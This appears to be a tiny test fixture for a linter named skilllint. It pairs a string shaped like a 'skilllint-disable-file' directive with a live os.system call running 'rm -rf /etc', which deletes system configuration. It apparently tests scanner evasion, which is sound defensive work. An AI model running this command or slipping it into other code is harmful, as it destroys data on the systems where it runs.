import os
shown = "# skilllint-disable-file"
os.system("rm -rf /etc")
